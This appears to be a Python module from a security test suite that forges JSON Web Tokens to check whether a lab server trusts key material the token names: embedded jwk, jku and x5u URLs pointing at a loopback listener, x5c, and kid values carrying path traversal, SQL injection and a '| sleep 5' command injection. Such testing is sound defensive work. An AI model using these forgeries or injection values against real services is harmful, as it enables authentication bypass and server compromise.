"""Key material that the token itself names: its own key, an address to fetch one, a path to a file."""

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from loadtests.attacks.attack import Attack
from loadtests.attacks.laboratory.condition import Control
from loadtests.attacks.laboratory.forgeries import Forger, forger
from loadtests.attacks.laboratory.jws import Members, encoded, signing_input, with_hmac
from loadtests.attacks.laboratory.lab import AttackLab, AttackResult

_KIDS = (
    ("", b""),
    ("/dev/null", b""),
    ("../../../../../../dev/null", b""),
    ("../../../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
    ("x' UNION SELECT 'attacker' -- ", b"attacker"),
    ("| sleep 5", b""),
    ("http://127.0.0.1/key", b""),
)
"""(kid, the key that a careless look-up then finds)."""


class KeyFromTheToken(Attack):
    """Sign the victim's claims with a key of the attacker's, and let the header point at it."""

    row = "G5"
    name = "key named by the token"
    question = "Does the server take its key from where the token says, or go there?"
    sources = (
        "OWASP ASVS 5.0 9.1.3",
        "RFC 8725 section 3.10",
        "RFC 7515 section 4.1",
        "OWASP ASVS 5.0 7.2.1",
    )
    control = Control("servers.vulnerable.tokens.verification:VulnerableKeyId")

    def run(self, lab: AttackLab) -> AttackResult:
        made = forger(lab)
        with _listener() as (address, visits):
            result = made.result(_forgeries(made, address), "the key is the server's own choice")
            fetched = len(visits)
        lab.figure("visits to the attacker's address", fetched)
        if fetched:
            return lab.succeeded("the server went to the address that the token named")
        return result


def _forgeries(made: Forger, address: str) -> dict[str, str]:
    key = ec.generate_private_key(ec.SECP256R1())
    point = key.public_key().public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    jwk = {"kty": "EC", "crv": "P-256", "x": encoded(point[1:33]), "y": encoded(point[33:])}

    def signed(**more: Any) -> str:
        header: Members = {**made.header, "alg": "ES256", **more}
        text = signing_input(header, made.claims)
        pair = decode_dss_signature(key.sign(text.encode(), ec.ECDSA(hashes.SHA256())))
        return f"{text}.{encoded(b''.join(number.to_bytes(32, 'big') for number in pair))}"

    forgeries = {
        "jwk": signed(jwk=jwk),
        "jwk with kid": signed(jwk={**jwk, "kid": "attacker"}, kid="attacker"),
        "jku": signed(jku=f"{address}/jwks.json", kid="attacker"),
        "x5u": signed(x5u=f"{address}/x5u.pem"),
        "x5c": signed(x5c=["MIIB"]),
        "iss": with_hmac({**made.header, "alg": "HS256"}, {**made.claims, "iss": address}, b"attacker"),
    }
    for kid, found in _KIDS:
        header = {**made.header, "alg": "HS256", "kid": kid}
        forgeries[f"kid {kid!r}"] = with_hmac(header, made.claims, found)
    return forgeries


@contextmanager
def _listener() -> Iterator[tuple[str, list[str]]]:
    """The attacker's own address, on loopback, and the first lines of what was asked there."""
    visits: list[str] = []
    answer = json.dumps({"keys": []}).encode()

    def serve(listening: socket.socket) -> None:
        while True:
            try:
                connection, _ = listening.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                visits.append(connection.recv(4096).partition(b"\r\n")[0].decode("latin-1"))
                connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + answer)

    with socket.create_server(("127.0.0.1", 0)) as listening:
        thread = threading.Thread(target=serve, args=(listening,), daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{listening.getsockname()[1]}", visits
        listening.shutdown(socket.SHUT_RDWR)
        thread.join()
